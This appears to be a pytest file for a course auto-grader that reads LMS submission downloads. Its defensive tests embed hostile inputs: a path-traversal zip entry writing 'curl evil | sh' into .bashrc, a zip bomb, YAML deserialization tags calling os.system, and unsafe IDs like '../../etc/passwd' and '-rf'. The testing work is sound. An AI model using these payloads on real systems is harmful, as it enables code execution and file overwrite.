"""graders/layouts.py and graders/lms.py: LMS downloads, built the way each LMS builds them
(tests/lms_downloads.py), read into one folder per student and graded end to end."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

import lms_downloads as L
from dlgrade.graders import layouts, lms
from dlgrade.graders.archives import ArchiveError
from dlgrade.graders.cli import main
from dlgrade.graders.gradebook import ExportSpec
from dlgrade.graders.layouts import LayoutError, canvas_original_name
from dlgrade.reports.class_pages import HTML_PAGES

NOT_SUBMISSION = "not a submission file (dlgrade grades .py, .ipynb, .txt, .tex)"


def files_of(intake, sid) -> dict[str, str]:
    return {name: e.read().decode("utf-8") for name, e in intake.students[sid].files.items()}


def skipped(intake) -> list[tuple[str, str]]:
    return sorted((s.path, s.reason) for s in intake.skipped)


# --------------------------------------------------------------------------- detection


@pytest.mark.parametrize("build, layout", [
    (lambda t: L.canvas_zip(t / "dl101-homework-1_submissions.zip"), "canvas"),
    (lambda t: L.canvas_zip(t / "c.zip", utf8_flag=True), "canvas"),
    (lambda t: L.moodle_zip(t / "DL101-Homework 1-123.zip"), "moodle"),
    (lambda t: L.moodle_zip(t / "flat.zip", folders=False), "moodle"),
    (lambda t: L.moodle_folder(t / "unzipped"), "moodle"),
    (lambda t: L.gradescope_zip(t / "submissions.zip"), "gradescope"),
    (lambda t: L.github_classroom(t / "clones"), "github-classroom"),
    (lambda t: L.github_classroom(t / "clones2") / "..", "github-classroom"),
])
def test_each_download_is_detected(tmp_path, build, layout):
    assert layouts.detect(build(tmp_path)) == layout


def test_a_plain_class_folder_is_no_download(tmp_path):
    from conftest import ROOT

    assert layouts.detect(ROOT / "examples" / "class") == "folder"
    assert layouts.read(ROOT / "examples" / "class") is None  # graded where it is, as before


def test_a_zip_of_a_class_folder_is_read_as_one(tmp_path):
    p = tmp_path / "class.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("class/ada/softmax.py", L.ADA_SOFTMAX)
        z.writestr("class/ben.py", L.NAIVE_SOFTMAX)
        z.writestr("class/ben/notes.md", "x")
    intake = layouts.read(p)
    assert intake.layout == "folder" and sorted(intake.students) == ["ada", "ben"]
    assert files_of(intake, "ada") == {"softmax.py": L.ADA_SOFTMAX}
    assert files_of(intake, "ben") == {"ben.py": L.NAIVE_SOFTMAX}
    assert skipped(intake) == [("class/ben/notes.md", NOT_SUBMISSION)]


def test_a_named_layout_that_does_not_fit_is_one_clear_error(tmp_path):
    p = L.canvas_zip(tmp_path / "c.zip")
    with pytest.raises(LayoutError) as exc:
        layouts.read(p, "moodle")
    assert str(exc.value) == f"{p}: no student found in it as a Moodle assignment download (named with --layout)"
    with pytest.raises(LayoutError) as exc:
        layouts.read(p, "blackboard")
    assert str(exc.value) == ("unknown layout 'blackboard' (one of canvas, moodle, gradescope, github-classroom, "
                              "folder)")


# --------------------------------------------------------------------------- canvas


@pytest.mark.parametrize("utf8_flag", [False, True], ids=["rubyzip-no-utf8-flag", "utf8-flag"])
def test_canvas_ids_names_late_and_resubmissions(tmp_path, utf8_flag):
    intake = layouts.read(L.canvas_zip(tmp_path / "c.zip", utf8_flag=utf8_flag))
    assert intake.layout == "canvas"
    assert sorted(intake.students) == ["1001", "1002", "1003", "1005", "1006", "1007"]  # 1004 submitted nothing
    assert intake.students["1002"].name == "müllerjosé"  # what Canvas leaves of "Müller, José"
    assert intake.students["1003"].name == "obriensmithzoë" and intake.students["1003"].late
    assert not any(s.late for sid, s in intake.students.items() if sid != "1003")
    # José's latest attempt: Canvas renamed his re-uploads softmax-1.py and sigmoid_bce_grad-1.txt
    jose = L.DEMO[1]
    assert files_of(intake, "1002") == {"softmax.py": jose.latest["softmax.py"],
                                        "sigmoid_bce_grad.txt": jose.latest["sigmoid_bce_grad.txt"]}
    assert intake.students["1002"].origins["softmax.py"] == "müllerjosé_1002_50005_softmax-1.py"
    assert list(intake.students["1007"].files) == []  # a text entry only
    assert skipped(intake) == [
        ("chenwei_1005_50009_notes.pdf", NOT_SUBMISSION),
        ("scullydana_1007_text.html", "a text entry submitted on Canvas, not a file: not graded"),
    ]


def test_canvas_keeps_the_latest_of_two_uploads_of_one_name(tmp_path):
    p = tmp_path / "c.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("lovelaceada_1001_700_softmax.py", "old = 1\n")
        z.writestr("lovelaceada_1001_705_softmax-2.py", "new = 1\n")
        z.writestr("lovelaceada_1001_702_softmax-1.py", "middle = 1\n")
        z.writestr("late_1009_710_answer.py", "anonymous = 1\n")  # anonymous grading: no name
        z.writestr("1010_711_answer.py", "anonymous = 2\n")
        z.writestr("doejane_LATE_1012_713_answer.py", "upper case = 1\n")
        z.writestr("smith--john-late_1011_712_answer.py", "older canvas = 1\n")  # Canvas's naming before 2017
        z.writestr("README.txt.bak", "x")
    intake = layouts.read(p)
    assert files_of(intake, "1001") == {"softmax.py": "new = 1\n"}
    assert intake.students["1009"].late and intake.students["1009"].name == ""
    assert files_of(intake, "1010") == {"answer.py": "anonymous = 2\n"}
    assert (intake.students["1011"].name, intake.students["1011"].late) == ("smith--john", True)
    assert (intake.students["1012"].name, intake.students["1012"].late) == ("doejane", True)
    assert skipped(intake) == [
        ("README.txt.bak", "not named like a Canvas submission (name_userid_fileid_filename)"),
        ("lovelaceada_1001_700_softmax.py", layouts.SUPERSEDED.format(taken="lovelaceada_1001_705_softmax-2.py")),
        ("lovelaceada_1001_702_softmax-1.py", layouts.SUPERSEDED.format(taken="lovelaceada_1001_705_softmax-2.py")),
    ]


@pytest.mark.parametrize("shown, original", [
    ("softmax-1.py", "softmax.py"), ("sigmoid_bce_grad-12.txt", "sigmoid_bce_grad.txt"),
    ("hw-1.tar.gz", "hw.tar.gz"), ("notes-1", "notes"), ("softmax.py", "softmax.py"),
    ("two-layer.py", "two-layer.py"), ("-1.py", "-1.py"),
])
def test_canvas_original_names(shown, original):
    assert canvas_original_name(shown) == original


# --------------------------------------------------------------------------- moodle


@pytest.mark.parametrize("kind", ["folders", "flat", "unzipped"])
def test_moodle_participants_names_and_files(tmp_path, kind):
    src = {"folders": lambda: L.moodle_zip(tmp_path / "m.zip"),
           "flat": lambda: L.moodle_zip(tmp_path / "m.zip", folders=False),
           "unzipped": lambda: L.moodle_folder(tmp_path / "m")}[kind]()
    intake = layouts.read(src)
    assert intake.layout == "moodle"
    assert sorted(intake.students) == ["2001", "2002", "2003", "2005", "2006", "2007"]
    assert intake.students["2002"].name == "José Müller"
    assert intake.students["2003"].name == "Zoë OBrien-Smith"  # Moodle's clean_filename drops the '
    assert files_of(intake, "2002") == L.DEMO[1].latest
    assert files_of(intake, "2005") == {"homework 1.ipynb": L.DEMO[4].latest["homework 1.ipynb"]}
    reasons = dict((p.rsplit("/", 1)[-1].rsplit("_", 1)[-1], r) for p, r in skipped(intake))
    assert reasons == {"notes.pdf": NOT_SUBMISSION,
                       "onlinetext.html": "online text, not an uploaded file: not graded"}


def test_moodle_blind_marking_has_ids_and_no_names(tmp_path):
    intake = layouts.read(L.moodle_zip(tmp_path / "m.zip", blind=True))
    assert sorted(intake.students) == ["2001", "2002", "2003", "2005", "2006", "2007"]
    assert all(s.name == "" for s in intake.students.values())


# --------------------------------------------------------------------------- gradescope


def test_gradescope_submitters_from_the_metadata(tmp_path):
    intake = layouts.read(L.gradescope_zip(tmp_path / "g.zip"))
    assert intake.layout == "gradescope"
    assert sorted(intake.students) == ["S1001", "S1002", "S1003", "S1005", "S1006"]
    zoe = intake.students["S1003"]
    assert (zoe.name, zoe.email) == ("Zoë O'Brien-Smith", "zoe@uni.example")
    assert zoe.submitted_at == "2024-03-02T12:00:00.123456-08:00"
    assert files_of(intake, "S1002") == L.DEMO[1].latest
    assert skipped(intake) == [("assignment_777_export/submission_9004/notes.pdf", NOT_SUBMISSION)]


def _gradescope(tmp_path, metadata: str, files: dict[str, str]) -> Path:
    p = tmp_path / "g.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("assignment_1_export/submission_metadata.yml", metadata)
        for name, text in files.items():
            z.writestr(f"assignment_1_export/{name}", text)
    return p


def test_gradescope_groups_latest_submission_and_unsafe_ids(tmp_path):
    meta = """\
submission_1:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
    :email: ada@uni.example
  - :name: Ben Ng
    :sid: '1004'
  :created_at: 2024-03-01 10:00:00.000000000 -08:00
submission_2:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
  :created_at: 2024-03-02 10:00:00.000000000 -08:00
submission_3:
  :submitters:
  - :name: Mallory
    :sid: ../../etc/passwd
    :email: mallory@uni.example
  :created_at: 2024-03-01 10:00:00.000000000 -08:00
"""
    p = _gradescope(tmp_path, meta, {"submission_1/softmax.py": "group = 1\n", "submission_2/softmax.py": "ada = 2\n",
                                     "submission_3/softmax.py": "m = 1\n", "submission_4/softmax.py": "who = 1\n"})
    intake = layouts.read(p)
    assert files_of(intake, "1001") == {"softmax.py": "ada = 2\n"}  # her later submission
    assert files_of(intake, "1004") == {"softmax.py": "group = 1\n"}  # Ben's is the group's
    assert files_of(intake, "mallory@uni.example") == {"softmax.py": "m = 1\n"}  # the SID is no safe name
    assert skipped(intake) == [
        ("assignment_1_export/submission_4/softmax.py", "not a submission listed in submission_metadata.yml"),
        ("submission_1/", "an earlier submission of 1001 (submission_2 is later)"),
    ]


@pytest.mark.parametrize("metadata, message", [
    ("- just\n- a list\n", "submission_metadata.yml does not map submissions to submitters"),
    ("submission_1: [unclosed\n", "submission_metadata.yml is not valid YAML (while parsing a flow sequence)"),
])
def test_gradescope_metadata_errors(tmp_path, metadata, message):
    p = _gradescope(tmp_path, metadata, {"submission_1/softmax.py": "x = 1\n"})
    with pytest.raises(LayoutError) as exc:
        layouts.read(p, "gradescope")
    assert str(exc.value) == f"{p}: {message}"


def test_gradescope_metadata_is_never_constructed_into_objects(tmp_path):
    meta = """\
submission_1: !!python/object/apply:os.system ["touch PWNED"]
submission_2:
  :submitters:
  - :name: !ruby/string Ada
    :sid: !!python/name:os.system '1001'
"""
    p = _gradescope(tmp_path, meta, {"submission_2/softmax.py": "x = 1\n"})
    try:
        intake = layouts.read(p, "gradescope")
    except LayoutError:
        intake = None
    assert not (Path.cwd() / "PWNED").exists() and not (tmp_path / "PWNED").exists()
    if intake is not None:
        assert all(isinstance(s.name, str) for s in intake.students.values())


# --------------------------------------------------------------------------- github classroom


def test_github_classroom_logins_from_repository_names(tmp_path):
    root = L.github_classroom(tmp_path / "clones")
    intake = layouts.read(root)
    assert intake.layout == "github-classroom"
    assert sorted(intake.students) == ["ada-lovelace", "chenwei", "eli-ha", "jose-muller", "zoe-obrien"]
    assert files_of(intake, "jose-muller") == L.DEMO[1].latest  # the latest commit is the working tree
    assert files_of(intake, "chenwei") == {"homework 1.ipynb": L.DEMO[4].latest["homework 1.ipynb"]}
    reasons = {(p.split("/", 1)[1], r) for p, r in skipped(intake)}
    assert reasons == {(".git/", "the repository's version-control data, not a submission"),
                       (".github/", "a hidden file or folder"), ("README.md", NOT_SUBMISSION),
                       ("notes.pdf", NOT_SUBMISSION)}


def test_a_link_committed_in_a_repository_is_not_followed(tmp_path):
    root = L.github_classroom(tmp_path / "clones", students=L.DEMO[:1])
    secret = tmp_path / "reference_solution.py"
    secret.write_text("ANSWER = 42\n")
    (root / "hw1-ada-lovelace" / "helpers.py").symlink_to(secret)
    intake = layouts.read(root, "github-classroom")
    assert "helpers.py" not in intake.students["ada-lovelace"].files
    assert ("hw1-ada-lovelace/helpers.py", "a symbolic link: not followed") in skipped(intake)


# --------------------------------------------------------------------------- a zip a student uploaded


def test_a_zip_inside_a_submission_is_opened_one_level_with_the_same_rules(tmp_path):
    good = io.BytesIO()
    with zipfile.ZipFile(good, "w") as z:
        z.writestr("hw1/softmax.py", L.ADA_SOFTMAX)
        z.writestr("__MACOSX/hw1/._softmax.py", "junk")
        z.writestr("hw1/inner.zip", b"PK not opened")
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as z:
        z.writestr("../../softmax.py", "import os\n")
    p = tmp_path / "c.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("lovelaceada_1001_10_hw1.zip", good.getvalue())
        z.writestr("haeli_1006_11_evil.zip", evil.getvalue())
    intake = layouts.read(p)
    assert files_of(intake, "1001") == {"softmax.py": L.ADA_SOFTMAX}
    assert files_of(intake, "1006") == {}
    assert skipped(intake) == [
        ("haeli_1006_11_evil.zip", "a zip the student uploaded, not opened: entry '../../softmax.py' points "
                                   "outside the archive (path traversal)"),
        ("lovelaceada_1001_10_hw1.zip/__MACOSX/", "an archiver's or editor's file, not the student's"),
        ("lovelaceada_1001_10_hw1.zip/hw1/inner.zip", NOT_SUBMISSION),
    ]


def test_a_traversal_or_a_bomb_in_the_download_itself_refuses_it(tmp_path):
    p = tmp_path / "c.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("lovelaceada_1001_10_softmax.py", L.ADA_SOFTMAX)
        z.writestr("../../../home/x/.bashrc", "curl evil | sh\n")
    with pytest.raises(ArchiveError) as exc:
        layouts.read(p)
    assert "(path traversal)" in str(exc.value)
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("lovelaceada_1001_10_softmax.py", b"\0" * (30 * 2**20))
    r = CliRunner().invoke(main, ["grade", str(bomb), "--out", str(tmp_path / "out")])
    assert r.exit_code == 2
    assert r.output.splitlines()[-1].startswith(f"Error: {bomb}: refused: entry 'lovelaceada_1001_10_softmax.py' "
                                                "expands ")
    assert r.output.splitlines()[-1].endswith(": a zip bomb?") and "Traceback" not in r.output
    assert not (tmp_path / "out" / "submissions").exists()


# --------------------------------------------------------------------------- materializing


def test_materialize_writes_a_folder_per_student_and_replaces_it_whole(tmp_path):
    dest = tmp_path / "out" / "submissions"
    intake = layouts.read(L.canvas_zip(tmp_path / "c.zip"))
    layouts.materialize(intake, dest)
    assert sorted(p.name for p in dest.iterdir()) == ["1001", "1002", "1003", "1005", "1006", "1007"]
    assert (dest / "1002" / "softmax.py").read_text() == L.DEMO[1].latest["softmax.py"]
    assert list((dest / "1007").iterdir()) == []
    first = {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    (dest / "stale").mkdir()
    layouts.materialize(layouts.read(L.canvas_zip(tmp_path / "c2.zip", students=L.DEMO[:2])), dest)
    assert sorted(p.name for p in dest.iterdir()) == ["1001", "1002"]
    again = {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    assert again == {k: v for k, v in first.items() if k.parts[0] in ("1001", "1002")}
    assert sorted(p.name for p in dest.parent.iterdir()) == ["submissions"]  # no temporary folder left


# --------------------------------------------------------------------------- end to end


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.slow
def test_a_canvas_download_graded_and_exported_back_to_canvas(tmp_path):
    zip_path = L.canvas_zip(tmp_path / "dl101-homework-1_submissions.zip")
    roster = tmp_path / "gradebook.csv"
    roster.write_text(L.canvas_gradebook_csv(), encoding="utf-8")
    out = tmp_path / "out"
    done = lms.grade(zip_path, out, roster_file=roster, jobs=2, pages=HTML_PAGES,
                     exports=[ExportSpec("canvas", points_possible=20, assignment="Homework 1 (4567)"),
                              ExportSpec("csv")])
    assert done.intake.layout == "canvas" and done.no_submission == ["1004"] and done.not_on_roster == []
    grades = {r["student"]: r for r in _rows((out / "grades.csv").read_text())}
    assert {k: v["total"] for k, v in grades.items()} == {
        "1001": "20", "1002": "20", "1003": "7", "1005": "10", "1006": "20", "1007": "0"}
    assert grades["1002"]["stable-softmax"] == "10"  # the resubmission, not the first (wrong-axis) attempt
    # Canvas reads the export back: the assignment by its id, students by their Canvas id
    back = L.read_canvas_import((out / "canvas-grades.csv").read_text(encoding="utf-8"))
    assert back["assignments"] == [{"index": 5, "title": "Homework 1", "id": "4567"}]
    assert back["points_possible"] == {"Homework 1": "20"}
    assert {sid: s["grades"]["Homework 1"] for sid, s in back["students"].items()} == {
        "1001": "20", "1002": "20", "1003": "7", "1004": "", "1005": "10", "1006": "20", "1007": "0"}
    assert back["students"]["1002"]["name"] == "Müller, José"
    assert back["students"]["1003"]["sis_login_id"] == "zoe-obrien"
    plain = {r["student"]: r for r in _rows((out / "grades-export.csv").read_text(encoding="utf-8"))}
    assert plain["1003"]["late"] == "yes" and plain["1001"]["late"] == ""
    assert plain["1004"]["submitted"] == "no" and plain["1004"]["total"] == "" and plain["1004"]["name"] == "Ben Ng"
    intake = json.loads((out / "intake.json").read_text(encoding="utf-8"))
    assert intake["layout"] == "canvas" and intake["students"]["1003"]["late"] is True
    assert {s["path"] for s in intake["skipped"]} == {"chenwei_1005_50009_notes.pdf", "scullydana_1007_text.html"}
    page = (out / "students" / "1002.html").read_text(encoding="utf-8")
    assert "José Müller" in page
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "Canvas submissions download" in index and "scullydana_1007_text.html" in index
    assert "<code>1004</code> Ben Ng" in index  # on the roster, submitted nothing
    pairs = json.loads((out / "similarity.json").read_text())["pairs"]
    assert [(p["a"], p["b"]) for p in pairs] == [("1001", "1006")]  # Eli's copy of Ada's softmax
    # the same download again: nothing regraded (the materialized folders are identical), no page rewritten
    page_time = (out / "students" / "1002.html").stat().st_mtime_ns
    again = lms.grade(zip_path, out, jobs=2, pages=HTML_PAGES)
    assert (out / "students" / "1002.html").stat().st_mtime_ns == page_time
    assert again.batch.graded == [] and len(again.batch.unchanged) == 6
    assert again.exports == [out / "canvas-grades.csv", out / "grades-export.csv"]  # kept from the first run


@pytest.mark.slow
def test_a_moodle_download_graded_and_exported_as_a_grading_worksheet(tmp_path):
    worksheet = tmp_path / "worksheet.csv"
    worksheet.write_text(L.moodle_worksheet(), encoding="utf-8")
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["grade", str(L.moodle_folder(tmp_path / "Homework 1")), "--out", str(out),
                                  "--jobs", "2", "--roster", str(worksheet), "--export", "moodle",
                                  "--points-possible", "100"])
    assert r.exit_code == 0, r.output
    assert "Moodle assignment download: 6 students, 2 files skipped" in r.output
    assert "1 student on the roster submitted nothing: 2004" in r.output
    back = L.read_moodle_import((out / "moodle-grades.csv").read_text(encoding="utf-8"))
    assert {k: (v and v["grade"]) for k, v in back.items()} == {
        "2001": 100.0, "2002": 100.0, "2003": 35.0, "2004": None, "2005": 50.0, "2006": 100.0, "2007": 0.0}
    assert all(v["max"] == 100.0 for v in back.values() if v)
    # the roster's name (Moodle's folder dropped the apostrophe), escaped on the page
    assert "<h1>Zoë O&#39;Brien-Smith <span" in (out / "students" / "2003.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_a_gradescope_export_and_github_classroom_repositories(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(L.gradescope_roster(), encoding="utf-8")
    out = tmp_path / "gs"
    done = lms.grade(L.gradescope_zip(tmp_path / "export.zip"), out, roster_file=roster, jobs=2,
                     exercise_ids=["stable-softmax"], exports=[ExportSpec("csv")])
    rows = {r["student"]: r for r in _rows((out / "grades-export.csv").read_text(encoding="utf-8"))}
    assert {k: r["total"] for k, r in rows.items()} == {
        "S1001": "10", "S1002": "10", "S1003": "7", "S1004": "", "S1005": "10", "S1006": "10", "S1007": ""}
    assert rows["S1003"]["name"] == "Zoë O'Brien-Smith" and rows["S1003"]["email"] == "zoe@uni.example"
    assert done.no_submission == ["S1004", "S1007"]
    roster = tmp_path / "classroom_roster.csv"
    roster.write_text(L.github_roster(), encoding="utf-8")
    out = tmp_path / "gh"
    done = lms.grade(L.github_classroom(tmp_path / "clones"), out, roster_file=roster, jobs=2,
                     exercise_ids=["stable-softmax"], exports=[ExportSpec("csv")])
    rows = {r["student"]: r for r in _rows((out / "grades-export.csv").read_text(encoding="utf-8"))}
    assert {k: r["total"] for k, r in rows.items()} == {
        "ada-lovelace": "10", "ben-ng": "", "chenwei": "10", "dana-scully": "", "eli-ha": "10",
        "jose-muller": "10", "zoe-obrien": "7"}
    assert rows["jose-muller"]["name"] == "José Müller"
    assert (out / "submissions" / "jose-muller" / "softmax.py").read_text() == L.DEMO[1].latest["softmax.py"]


@pytest.mark.parametrize("sid, ok", [
    ("1001", True), ("ada-lovelace", True), ("ada@uni.example", True), ("Ada Lovelace", True), ("José", True),
    ("..", False), ("../x", False), (".git", False), ("a/b", False), ("a\\b", False), ("-rf", False),
    (" x", False), ("x ", False), ("a\x00b", False), ("x" * 129, False),
])
def test_which_ids_may_name_a_student_folder(sid, ok):
    assert bool(layouts.SAFE_ID.fullmatch(sid)) is ok


def test_a_class_zip_with_an_unsafe_student_name_skips_that_student(tmp_path):
    p = tmp_path / "class.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("Ada Lovelace/softmax.py", L.ADA_SOFTMAX)
        z.writestr("-rf/softmax.py", L.NAIVE_SOFTMAX)
    intake = layouts.read(p)
    assert sorted(intake.students) == ["Ada Lovelace"]
    assert skipped(intake) == [("-rf/softmax.py", "the id '-rf' cannot name a student folder safely")]
